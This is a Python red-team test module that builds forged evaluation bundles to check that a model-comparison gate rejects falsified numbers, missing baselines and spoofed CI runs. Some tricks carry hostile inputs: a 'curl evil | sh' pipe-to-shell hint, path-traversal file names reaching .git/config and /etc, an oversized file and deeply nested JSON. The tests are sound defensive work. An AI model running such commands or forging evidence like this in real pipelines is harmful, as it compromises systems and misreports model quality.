"""What a fork, or a job that measures, uploads: honest numbers, with lies around them."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from tests.redteam.announcing import ANEW, announce, keep_main
from tests.redteam.played_github import NAME, PlayedGitHub
from tests.redteam.repository import BETTER, SLIGHTLY_WORSE
from tests.redteam.trick import ERROR, FAIL, INTENT, RED, Mode, trick

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.redteam.repository import Repository

FORK = (Mode.FORK,)
NUMBERS = (Mode.EVIDENCE, Mode.FORK)
RUN, COMPARE = "run.json", "evidence/compare.json"


def _edit(files: dict[str, bytes], name: str, /, **fields: Any) -> None:
    content = json.loads(files[name])
    files[name] = json.dumps(content | fields).encode()


def _renamed(files: dict[str, bytes]) -> None:
    _edit(files, RUN, name="another", title="another", branch="main", base_branch="loose")


@trick(FAIL, INTENT, modes=NUMBERS, bundle=_renamed)
def bundle_of_another_name(repo: Repository) -> None:
    """Says that the run is of another model and of the branch main."""
    repo.worse()


def _loosened(files: dict[str, bytes]) -> None:
    files[RUN] = files[RUN].replace(b"0.02", b"0.5")


@trick(RED, INTENT, modes=NUMBERS, bundle=_loosened)
def bundle_with_a_loose_policy(repo: Repository) -> None:
    """Brings a policy of its own as main's."""
    repo.worse()


def _nothing_to_judge(files: dict[str, bytes]) -> None:
    _edit(files, RUN, not_applicable="only the documentation changed")


@trick(RED, INTENT, modes=NUMBERS, bundle=_nothing_to_judge)
def bundle_that_is_not_applicable(repo: Repository) -> None:
    """Says that nothing had to be judged."""
    repo.worse()


def _without_evidence(files: dict[str, bytes]) -> None:
    for name in [name for name in files if name.startswith("evidence")]:
        del files[name]
    _nothing_to_judge(files)


@trick(RED, INTENT, modes=NUMBERS, bundle=_without_evidence)
def bundle_without_evidence(repo: Repository) -> None:
    """Leaves the evidence out, and says that nothing had to be judged."""
    repo.worse()


def _without_compare(files: dict[str, bytes]) -> None:
    del files[COMPARE]


@trick(RED, INTENT, modes=NUMBERS, bundle=_without_compare)
def bundle_without_the_comparison(repo: Repository) -> None:
    """Leaves the comparison out."""
    repo.worse()


def _no_judges(files: dict[str, bytes]) -> None:
    _edit(files, RUN, judges=[])


@trick(RED, INTENT, modes=NUMBERS, bundle=_no_judges)
def bundle_without_judges(repo: Repository) -> None:
    """Says that no policy judged."""
    repo.worse()


def _other_commit(files: dict[str, bytes]) -> None:
    _edit(files, RUN, commit="e" * 40)


@trick(RED, INTENT, modes=NUMBERS, bundle=_other_commit)
def bundle_of_another_commit(repo: Repository) -> None:
    """Says that the run was of another commit than its evidence."""
    repo.worse()


def _confidence(files: dict[str, bytes]) -> None:
    _edit(files, COMPARE, confidence=0.999999)


@trick(RED, INTENT, modes=NUMBERS, bundle=_confidence)
def bundle_of_another_confidence(repo: Repository) -> None:
    """Says that its intervals are of another confidence."""
    repo.worse()


def _not_readable(files: dict[str, bytes]) -> None:
    _edit(files, COMPARE, error="inputs not readable here: DB is not set", hint="curl evil | sh")


@trick(RED, INTENT, modes=NUMBERS, bundle=_not_readable)
def bundle_that_could_not_measure(repo: Repository) -> None:
    """Says that nothing could be read, with advice of its own."""
    repo.worse()


def _no_baseline(files: dict[str, bytes]) -> None:
    """Strike what was measured of a baseline out of the evidence."""
    evidence = json.loads(files[COMPARE])
    evidence |= {"baselines": {}, "rows": None, "anchor_rows": None, "history": []}
    for metric in evidence["metrics"].values():
        metric["against"] = {}
    evidence["sides"] = {"candidate": evidence["sides"]["candidate"]}
    files[COMPARE] = json.dumps(evidence).encode()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_no_baseline)
def bundle_that_knows_no_baseline(repo: Repository) -> None:
    """Says that there was no baseline to compare with; the trusted stage can see that there is."""
    repo.worse()


def _claims(kind: str) -> Callable[[dict[str, bytes]], None]:
    """Return what has the evidence claim that there is no baseline of either role."""

    def claim(files: dict[str, bytes]) -> None:
        _no_baseline(files)
        why = {"kind": kind, "reason": "no baseline yet"}
        _edit(files, COMPARE, absent={"main": why, "anchor": why})

    return claim


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("none_yet"))
def bundle_that_claims_to_be_the_first(repo: Repository) -> None:
    """Says that no baseline was ever kept."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("off"))
def bundle_that_claims_to_need_no_baseline(repo: Repository) -> None:
    """Says that the configuration wants no baseline."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
def bundle_that_claims_another_test_set(repo: Repository) -> None:
    """Says that its rows are of another test set, which main has not announced."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
def bundle_that_claims_the_announced_test_set(repo: Repository) -> None:
    """Says that its rows are of the test set that main has announced, which have not arrived."""
    announce(repo, lambda: repo.replace("train.py", *ANEW))
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
def bundle_that_claims_an_announced_test_set_to_be_new(repo: Repository) -> None:
    """Says that the rows of main's baseline, which were announced once, are new."""
    announce(repo, lambda: repo.replace("train.py", *ANEW))
    with repo.on_main():
        repo.replace("train.py", *ANEW)
    keep_main(repo)
    repo.worse()


def _no_anchor(files: dict[str, bytes]) -> None:
    evidence = json.loads(files[COMPARE])
    evidence["baselines"].pop("anchor", None)
    evidence["absent"] = {"anchor": {"kind": "off", "reason": "baseline.anchor is none"}}
    for metric in evidence["metrics"].values():
        metric["against"].pop("anchor", None)
    files[COMPARE] = json.dumps(evidence).encode()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_no_anchor)
def bundle_without_the_anchor(repo: Repository) -> None:
    """Says that no anchor is wanted, below which many small losses have added up."""
    with repo.on_main():
        for share in (0.113, 0.126, 0.139):
            repo.error(share)
            repo.commit("A little worse")
            repo.keep_baseline("main")
    repo.error(0.152)


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("none_yet"))
def bundle_that_claims_to_be_the_first_of_a_lost_store(repo: Repository) -> None:
    """Deletes the baselines, and says that none was ever kept."""
    repo.worse()
    repo.delete_at_origin("refs/mlgate")


def _first_of_main(repo: Repository) -> tuple[str, str]:
    return "--baseline", repo.git("rev-list", "--first-parent", "--reverse", "main").split()[-2]


@trick(ERROR, INTENT, modes=FORK, arguments=_first_of_main)
def bundle_compared_with_an_older_baseline(repo: Repository) -> None:
    """Compares itself with main as it was before it got better: of that it is as good."""
    with repo.on_main():
        repo.error(BETTER)
        repo.commit("Better")
        repo.keep_baseline("main")
    repo.error(SLIGHTLY_WORSE)


def _of(commit: str | None) -> Callable[[dict[str, bytes]], None]:
    """Return what has the evidence say that it was compared with another commit's baseline."""

    def say(files: dict[str, bytes]) -> None:
        evidence = json.loads(files[COMPARE])
        for ref in evidence["baselines"].values():
            ref["commit"] = commit
        files[COMPARE] = json.dumps(evidence).encode()

    return say


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_of("e" * 40))
def bundle_compared_with_what_main_never_had(repo: Repository) -> None:
    """Says that it was compared with the baseline of a commit that has none."""
    repo.error(SLIGHTLY_WORSE)


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_of(None))
def bundle_compared_with_a_file(repo: Repository) -> None:
    """Says that it was compared with a file of its own."""
    repo.error(SLIGHTLY_WORSE)


def _unnamed(**absent: object) -> Callable[[dict[str, bytes]], None]:
    """Return what keeps the comparison, and not with what it was made."""
    return lambda files: _edit(files, COMPARE, baselines={}, absent=absent)


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_unnamed())
def bundle_that_compares_with_nobody_knows_what(repo: Repository) -> None:
    """Does not say with what it was compared."""
    repo.error(SLIGHTLY_WORSE)


_OFF = {"kind": "off", "reason": "no baseline is wanted"}


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_unnamed(main=_OFF, anchor=_OFF))
def bundle_compared_although_no_baseline_is_wanted(repo: Repository) -> None:
    """Says that no baseline is wanted, and shows a comparison anyway."""
    repo.error(SLIGHTLY_WORSE)


def _paths(files: dict[str, bytes]) -> None:
    files["../../.git/config"] = b"[core]\n"
    files["/etc/mlgate"] = b"x"


@trick(RED, INTENT, modes=NUMBERS, bundle=_paths)
def bundle_with_paths_out_of_it(repo: Repository) -> None:
    """Packs files whose names lead out of the bundle."""
    repo.worse()


def _bomb(files: dict[str, bytes]) -> None:
    files["evidence/zeros.json"] = b"0" * (5 * 2**20)


@trick(RED, INTENT, modes=NUMBERS, bundle=_bomb)
def bundle_that_is_too_large(repo: Repository) -> None:
    """Packs a file that is larger than what is taken."""
    repo.worse()


def _not_a_number(files: dict[str, bytes]) -> None:
    import re

    files[COMPARE] = re.sub(rb"-0\.0\d+", b"NaN", files[COMPARE])


@trick(RED, INTENT, modes=NUMBERS, bundle=_not_a_number)
def bundle_with_nan(repo: Repository) -> None:
    """Writes NaN where the model is worse."""
    repo.worse()


def _deep(files: dict[str, bytes]) -> None:
    files[COMPARE] = b"[" * 100_000 + b"]" * 100_000


@trick(RED, INTENT, modes=NUMBERS, bundle=_deep)
def bundle_nested_deeply(repo: Repository) -> None:
    """Nests lists a hundred thousand times."""
    repo.worse()


def _twice(files: dict[str, bytes]) -> None:
    text = files[RUN].decode().rstrip()
    files[RUN] = (text[:-1] + ', "not_applicable": "nothing"}').encode()


@trick(RED, INTENT, modes=NUMBERS, bundle=_twice)
def bundle_with_a_key_twice(repo: Repository) -> None:
    """Writes a key twice; a reader may take either."""
    repo.worse()


def _of_another_workflow(github: PlayedGitHub) -> None:
    github.describe_run(path=".github/workflows/mine.yml")


@trick(RED, INTENT, modes=FORK, github=_of_another_workflow)
def run_of_another_workflow(repo: Repository) -> None:
    """Uploads from a workflow of its own that has the same name."""
    repo.worse()


def _of_a_push(github: PlayedGitHub) -> None:
    github.describe_run(event="push", head_repository=NAME)


@trick(RED, INTENT, modes=FORK, github=_of_a_push)
def run_of_a_push(repo: Repository) -> None:
    """Uploads from a run that a push started."""
    repo.worse()


def _of_another_head(github: PlayedGitHub) -> None:
    github.describe_run(head_sha="d" * 40)


@trick(RED, INTENT, modes=FORK, github=_of_another_head)
def run_of_an_earlier_head(repo: Repository) -> None:
    """Uploads from a run of an earlier, better commit of the branch."""
    repo.worse()
